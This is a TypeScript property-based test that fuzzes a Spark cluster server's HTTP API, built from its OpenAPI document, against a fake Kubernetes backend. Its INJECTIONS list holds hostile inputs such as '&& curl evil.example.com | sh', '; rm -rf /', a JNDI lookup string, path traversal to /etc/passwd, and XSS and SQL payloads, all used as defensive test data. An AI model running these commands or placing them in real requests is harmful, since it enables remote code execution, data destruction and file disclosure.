/**
 * Property-based bad input: requests generated from the server's own OpenAPI document (valid ones and broken
 * ones: wrong types, huge strings, unicode, injection attempts, unknown fields, wrong methods and paths), sent over
 * HTTP to the real server backed by the fake Kubernetes API. The server must never answer 5xx, must answer every
 * error with the upstream envelope, and must not touch the Kubernetes API's objects for a rejected request.
 */
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FakeKubeServer } from './fake-kube/fake-kube-server.js';
import { expectEnvelope, http, type RawResponse } from './support/http.js';
import {
  isRunning,
  NAMESPACE,
  startKubeStack,
  waitForCluster,
  type KubeStack,
} from './support/kube-stack.js';

interface Schema {
  type?: string;
  properties?: Record<string, Schema>;
  required?: string[];
  additionalProperties?: boolean;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  enum?: unknown[];
  anyOf?: Schema[];
  pattern?: string;
}

interface OpenApi {
  paths: Record<
    string,
    Record<
      string,
      {
        parameters?: { in: string; name: string; schema: Schema }[];
        requestBody?: { content: { 'application/json': { schema: Schema } } };
        responses: Record<string, unknown>;
      }
    >
  >;
}

const INJECTIONS = [
  '$(id)',
  '`id`',
  '; rm -rf /',
  '&& curl evil.example.com | sh',
  '../../../etc/passwd',
  '..',
  '../',
  'a\nb',
  'line\r\nX-Injected: 1',
  'nul\u0000byte',
  '%00',
  '%2e%2e%2f',
  '<script>alert(1)</script>',
  "' OR '1'='1",
  '${jndi:ldap://evil.example.com/a}',
  '{{7*7}}',
  '\u202eevil',
  'spark🚀',
  'ＡＢＣ',
  'éàü',
  '-leading-dash',
  'UPPER',
  'docker.io/apache/spark:3.5.3; rm -rf /',
  'quay.io/team/spark:$(id)',
  'quay.io/team/spark:3.5\nFROM evil',
  'quay.io/../../spark:1',
  `docker.io/apache/spark@sha256:${'a'.repeat(64)}`,
  'localhost:5000/spark:latest',
  '',
  ' ',
];

const PLAUSIBLE_NAMES = [
  'spark',
  'a',
  'team-1',
  'x'.repeat(54),
  'x'.repeat(55),
  'default-oshinko-cluster-config',
];
const PLAUSIBLE_IMAGES = [
  'quay.io/my-team/spark:3.5.3',
  'docker.io/apache/spark:4.0.1',
  'spark',
  'registry:5000/s/p:1',
];

const nastyString = (maxLength: number): fc.Arbitrary<string> =>
  fc
    .oneof(
      { weight: 3, arbitrary: fc.constantFrom(...INJECTIONS) },
      { weight: 2, arbitrary: fc.constantFrom(...PLAUSIBLE_NAMES, ...PLAUSIBLE_IMAGES) },
      { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
      { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
      { weight: 1, arbitrary: fc.stringMatching(/^[a-z]([-a-z0-9]{0,20}[a-z0-9])?$/) },
    )
    .map((s) => s.slice(0, maxLength));

/** Values the schema accepts (strings chosen to be hostile; the server's own checks must refuse those). */
function valid(schema: Schema): fc.Arbitrary<unknown> {
  if (schema.anyOf !== undefined) return fc.oneof(...schema.anyOf.map(valid));
  if (schema.enum !== undefined) return fc.constantFrom(...schema.enum);
  switch (schema.type) {
    case 'object': {
      const props = schema.properties ?? {};
      const model = Object.fromEntries(Object.entries(props).map(([key, s]) => [key, valid(s)]));
      return fc.record(model, { requiredKeys: schema.required ?? [] });
    }
    case 'string':
      if (schema.pattern !== undefined) {
        return fc.oneof(fc.stringMatching(new RegExp(schema.pattern)), nastyString(schema.maxLength ?? 512));
      }
      return nastyString(schema.maxLength ?? 512);
    case 'integer':
      return fc.integer({ min: schema.minimum ?? -1_000_000, max: schema.maximum ?? 200 });
    case 'boolean':
      return fc.boolean();
    default:
      return fc.anything();
  }
}

const WRONG_TYPES = fc.oneof(
  fc.constant(null),
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant([]),
  fc.array(fc.string(), { maxLength: 3 }),
  fc.constant({}),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.string({ maxLength: 5 }), { maxKeys: 3 }),
  fc.string({ maxLength: 5 }),
  fc.constant('1e3'),
  fc.constant(1.5),
  fc.constant(-1),
  fc.constant(Number.MAX_SAFE_INTEGER),
);

/** Breaks one thing in a value the schema accepts. */
function invalid(schema: Schema): fc.Arbitrary<unknown> {
  const props = schema.properties ?? {};
  const keys = Object.keys(props);
  const base = valid(schema) as fc.Arbitrary<Record<string, unknown>>;
  // Objects with named properties to break (a map such as config.labels has none: its values are broken whole).
  const nested = keys.filter(
    (key) => props[key]?.type === 'object' && Object.keys(props[key].properties ?? {}).length > 0,
  );
  return fc.oneof(
    WRONG_TYPES,
    fc
      .tuple(base, fc.constantFrom(...keys), WRONG_TYPES)
      .map(([value, key, wrong]) => ({ ...value, [key]: wrong })),
    fc
      .tuple(
        base,
        fc.constantFrom(...keys),
        fc.integer({ min: 513, max: 100_000 }),
        fc.constantFrom('a', 'é', '🚀'),
      )
      .map(([value, key, length, unit]) => ({ ...value, [key]: unit.repeat(length) })),
    fc
      .tuple(
        base,
        fc.oneof(
          fc.constantFrom('__proto__', 'constructor', 'imageurl', 'workers'),
          fc.string({ maxLength: 10 }),
        ),
      )
      .filter(([, extra]) => !keys.includes(extra))
      .map(
        ([value, extra]) =>
          JSON.parse(
            `{${JSON.stringify(extra)}: 1${Object.keys(value).length === 0 ? '}' : `, ${JSON.stringify(value).slice(1)}`}`,
          ) as unknown,
      ),
    base.map((value) =>
      Object.fromEntries(Object.entries(value).filter(([key]) => !(schema.required ?? []).includes(key))),
    ),
    ...nested.map((key) =>
      fc.tuple(base, invalid(props[key] ?? {})).map(([value, broken]) => ({ ...value, [key]: broken })),
    ),
  );
}

interface GeneratedRequest {
  readonly method: string;
  readonly path: string;
  readonly body?: unknown;
  readonly rawBody?: string;
  readonly contentType?: string;
}

function requests(doc: OpenApi): fc.Arbitrary<GeneratedRequest> {
  const create = doc.paths['/clusters']?.post?.requestBody?.content['application/json'].schema ?? {};
  const update = doc.paths['/clusters/{name}']?.put?.requestBody?.content['application/json'].schema ?? {};
  // A followed log runs until its pod ends: it is not a request to fire and wait for (test/kubernetes-logs.test.ts).
  const logsQuery =
    doc.paths['/clusters/{name}/logs']?.get?.parameters?.filter(
      (p) => p.in === 'query' && p.name !== 'follow',
    ) ?? [];
  const pathName = fc.oneof(
    { weight: 3, arbitrary: nastyString(300) },
    { weight: 1, arbitrary: fc.constant('keeper') },
  );
  const body = (schema: Schema) =>
    fc.oneof({ weight: 2, arbitrary: valid(schema) }, { weight: 3, arbitrary: invalid(schema) });
  // A URL (fetch's, any WHATWG client's) resolves a `.` or `..` segment, even percent-encoded, before sending: such a
  // name would be sent as another path, so it stands for itself with a suffix.
  const enc = (name: string): string =>
    name === '.' || name === '..' ? `${name}x` : encodeURIComponent(name);
  // Requests that should succeed, so that the run also covers what accepted requests do.
  const good = fc.record(
    {
      workerCount: fc.integer({ min: 0, max: 3 }),
      sparkImage: fc.constantFrom(...PLAUSIBLE_IMAGES),
      exposeWebUI: fc.constantFrom(true, 'false'),
      metrics: fc.constantFrom('false', 'prometheus', true),
    },
    { requiredKeys: [] },
  );
  return fc.oneof(
    fc
      .tuple(fc.stringMatching(/^[a-z]([-a-z0-9]{0,10}[a-z0-9])?$/), good)
      .map(([name, config]) => ({ method: 'POST', path: '/clusters', body: { name, config } })),
    fc.integer({ min: 0, max: 3 }).map((workerCount) => ({
      method: 'PUT',
      path: '/clusters/keeper',
      body: { name: 'keeper', config: { workerCount } },
    })),
    body(create).map((b) => ({ method: 'POST', path: '/clusters', body: b })),
    fc
      .tuple(pathName, body(update))
      .map(([name, b]) => ({ method: 'PUT', path: `/clusters/${enc(name)}`, body: b })),
    fc
      .tuple(fc.constantFrom('GET', 'DELETE'), pathName)
      .map(([method, name]) => ({ method, path: `/clusters/${enc(name)}` })),
    fc
      .tuple(pathName, ...logsQuery.map((p) => fc.option(valid(p.schema).map(String), { nil: undefined })))
      .map(([name, ...values]) => {
        const query = new URLSearchParams();
        logsQuery.forEach((p, i) => {
          const value = values[i];
          if (value !== undefined) query.set(p.name, value);
        });
        return { method: 'GET', path: `/clusters/${enc(name)}/logs?${query.toString()}` };
      }),
    // Not JSON, or not declared as JSON.
    fc
      .tuple(
        fc.constantFrom('POST /clusters', 'PUT /clusters/keeper'),
        fc.oneof(
          fc.constantFrom('{', '{"name":', 'null', '[]', '"x"', '{"name":"a"}{}', ''),
          fc.string({ maxLength: 30 }),
        ),
        fc.constantFrom(
          'application/json',
          'text/plain',
          'application/x-www-form-urlencoded',
          'application/json; charset=latin1',
        ),
      )
      .map(([route, rawBody, contentType]) => {
        const [method = 'POST', path = '/clusters'] = route.split(' ');
        return { method, path, rawBody, contentType };
      }),
    // Wrong methods and paths.
    fc
      .tuple(
        fc.constantFrom('PATCH', 'PUT', 'DELETE', 'POST', 'OPTIONS'),
        fc.constantFrom(
          '/clusters',
          '/clusters/keeper',
          '/',
          '/images',
          '/clusters/keeper/logs',
          '/clusters/a/b/c',
          '/clusters/..%2F..%2Fetc',
          '/clusters/%00',
          '/%2e%2e/clusters',
          '/api/v1/namespaces/spark-apps/pods',
          '/metrics/../clusters',
        ),
      )
      .filter(([method, path]) => !(method === 'POST' && path === '/clusters'))
      .filter(([method, path]) => !(method === 'PUT' && path === '/clusters/keeper'))
      .filter(([method, path]) => !(method === 'DELETE' && path === '/clusters/keeper'))
      .map(([method, path]) => ({ method, path, body: { name: 'keeper' } })),
  );
}

const MUTATING = new Set(['create', 'update', 'patch', 'delete']);

/** The statuses documented for the operation a request reaches, or undefined when the document has none. */
function documentedStatuses(method: string, path: string): string[] | undefined {
  const bare = path.split('?')[0] ?? '';
  for (const [template, operations] of Object.entries(doc.paths)) {
    const pattern = new RegExp(`^${template.replace(/\{[^}]+\}/g, '[^/]+')}$`);
    const operation = operations[method.toLowerCase()];
    if (pattern.test(bare) && operation !== undefined) return Object.keys(operation.responses);
  }
  return undefined;
}

/** Objects the server created (not the fake's controllers), with what a client could change in them. */
function snapshot(fake: FakeKubeServer): string[] {
  return (['deployments', 'services', 'routes', 'ingresses', 'configmaps'] as const)
    .flatMap((resource) =>
      fake
        .objects(resource, NAMESPACE)
        .map(
          (o) => `${resource}/${o.metadata.name} ${o.metadata.uid} ${JSON.stringify(o.spec ?? o.data ?? {})}`,
        ),
    )
    .sort();
}

let stack: KubeStack;
let doc: OpenApi;

beforeAll(async () => {
  stack = await startKubeStack({ openshift: true });
  doc = (await http(stack.server.url, 'GET', '/openapi.json')).json as OpenApi;
});
afterAll(async () => {
  await stack.close();
});

async function restore(): Promise<void> {
  for (const cluster of await stack.client.listClusters()) {
    if (cluster.name !== 'keeper') await stack.client.deleteCluster(cluster.name);
  }
  const keeper = await stack.client.listClusters();
  if (keeper.length === 0) await stack.client.createCluster({ name: 'keeper' });
  const current = await stack.client.getCluster('keeper');
  if (current.config.workerCount !== 1 || current.config.masterCount !== 1) {
    await stack.client.scaleCluster('keeper', { masterCount: 1, workerCount: 1 });
  }
}

async function send(request: GeneratedRequest): Promise<RawResponse> {
  return http(stack.server.url, request.method, request.path, {
    body: request.body,
    ...(request.rawBody === undefined ? {} : { rawBody: request.rawBody }),
    headers: request.contentType === undefined ? {} : { 'content-type': request.contentType },
  });
}

describe('generated requests', () => {
  it('the OpenAPI document describes the routes the generator uses', () => {
    expect(Object.keys(doc.paths)).toEqual(
      expect.arrayContaining(['/clusters', '/clusters/{name}', '/clusters/{name}/logs']),
    );
    expect(doc.paths['/clusters']?.post?.requestBody).toBeDefined();
  });

  it('never answer 5xx, always answer errors with the envelope, and create nothing when rejected', async () => {
    await restore();
    await waitForCluster(stack.client, 'keeper', isRunning);
    const seen = new Map<number, number>();
    await fc.assert(
      fc.asyncProperty(requests(doc), async (request) => {
        const before = snapshot(stack.fake);
        const requestCount = stack.fake.requests.length;
        const response = await send(request);
        seen.set(response.status, (seen.get(response.status) ?? 0) + 1);
        expect(response.status, `${request.method} ${request.path}: ${response.text}`).toBeLessThan(500);
        // Whatever an operation of the document answers, the document lists for it.
        const documented = documentedStatuses(request.method, request.path);
        if (documented !== undefined) {
          expect(documented, `${request.method} ${request.path}: ${response.text}`).toContain(
            String(response.status),
          );
        }
        if (response.status >= 400) {
          const error = expectEnvelope(response);
          // Our validation refuses bad input itself; Kubernetes refusing it would mean ours let it through.
          expect(error.details).not.toContain('Kubernetes answered');
          expect(snapshot(stack.fake)).toEqual(before);
          const calls = stack.fake.requests.slice(requestCount).filter((r) => MUTATING.has(r.verb));
          expect(calls).toEqual([]);
        } else if (request.method !== 'GET') {
          await restore();
        }
      }),
      { numRuns: 300, interruptAfterTimeLimit: 40_000, endOnFailure: true },
    );
    // The generator reaches both sides: accepted requests and each kind of refusal.
    const statuses = [...seen.keys()];
    expect(statuses).toEqual(expect.arrayContaining([200, 400, 404]));
    expect(statuses.some((s) => s === 201 || s === 202)).toBe(true);
    expect(statuses.some((s) => s === 413 || s === 415)).toBe(true);
  }, 90_000);
});
